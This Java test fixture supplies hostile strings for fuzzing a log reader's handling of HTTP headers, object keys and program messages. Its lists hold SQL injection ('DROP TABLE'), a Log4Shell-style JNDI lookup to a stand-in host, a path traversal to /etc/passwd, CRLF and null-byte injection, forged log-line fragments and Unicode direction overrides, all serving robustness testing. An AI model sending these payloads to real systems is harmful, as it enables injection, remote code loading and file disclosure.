package jp.mymovie.lab.logs;

import java.util.List;
import java.util.random.RandomGenerator;

/** What somebody sends, or makes a program say, to break what reads the log. */
final class HostileText {
    /** Values of headers: HTTP lets no line end in. */
    private static final List<String> HEADERS = List.of(
            "x\" 200 - 1 1 1 1 \"-\" \"y",
            "\"",
            "\\",
            "a\\\" - - -",
            "' OR '1'='1'; DROP TABLE s3access; --",
            "${jndi:ldap://x.example/a}",
            "\u202eamirp\u202c \u200f\u05d0\u05d1\u05d2",
            "a\tb\u0085c\u2028d",
            "🎬🍿 映画",
            "[02/Nov/2026:03:04:05 +0000]",
            "A".repeat(1500));

    /** Keys of objects that nobody has made: 1,024 bytes at most. */
    static final List<String> KEYS = List.of(
            "a\" 200 - 1 1 1 1 \"-\" \"b",
            "../../etc/passwd",
            "a\r\nb\u0000c%00%0a",
            "x;DROP TABLE s3access;--",
            "映画/🎬.gz",
            "\u202egnp.gz",
            "k".repeat(1024));

    /** Messages: a program may say anything. */
    static final List<String> MESSAGES = List.of(
            "first line\nsecond line\r\nthird line\rfourth",
            "she said \"no\" and left \\ behind\\",
            "\"}{\"level\":\"INFO\",\"requestId\":\"00000000-0000-4000-8000-000000000000\"}",
            "{\"level\":\"ERROR\",\"message\":\"within\",\"requestId\":\"-\"}",
            "${jndi:ldap://x.example/a}",
            "nothing\u0000bell\u0007escape\u001b[31mred\u007f",
            "\u202eamirp\u202c \u200f\u05d0\u05d1\u05d2",
            "'; DROP TABLE lambda; --",
            "🎬🍿 映画 \u0085\u2028\u2029",
            "half of a pair: \ud83c",
            "[1, 2, {\"a\": null}]",
            " ",
            "null",
            "A".repeat(100_000));

    private HostileText() {}

    static String header(RandomGenerator random) {
        return HEADERS.get(random.nextInt(HEADERS.size()));
    }

    static String key(RandomGenerator random) {
        return KEYS.get(random.nextInt(KEYS.size()));
    }
}
